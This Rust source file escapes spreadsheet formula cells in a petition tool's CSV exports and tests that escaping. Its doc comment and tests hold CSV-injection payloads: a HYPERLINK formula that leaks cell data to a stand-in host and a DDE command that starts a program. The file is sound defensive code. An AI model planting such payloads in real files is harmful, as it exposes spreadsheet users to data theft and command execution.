//! Cells of the CSV files hillpost writes (a petition's signature list, the audit export)
//! are opened by people in spreadsheets. A cell that starts with `=`, `+`, `-` or `@` (or a
//! tab or carriage return, which some spreadsheets skip before reading one) is taken as a
//! formula: a signer named `=HYPERLINK("http://evil.example/?leak="&B2,"Click")` would
//! become a link that sends the neighbouring cells away. Following OWASP's guidance on CSV
//! injection, such a cell gets a leading `'`, which spreadsheets show as text. JSON exports
//! keep the original value.

use std::borrow::Cow;

/// `cell` as it may go into a CSV file.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let formula = cell.chars().next().is_some_and(|c| {
        matches!(
            c,
            '=' | '+' | '-' | '@' | '\t' | '\r'
            // Full-width forms some spreadsheets read as the ASCII ones.
            | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}'
        )
    });
    if formula {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::neutralise;

    #[test]
    fn formulas_become_text() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\u{FF1D}1+1",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"));
        }
        for cell in ["Ana María", "", "O'Brien", "1+1", "a=b"] {
            assert_eq!(neutralise(cell), cell);
        }
    }
}
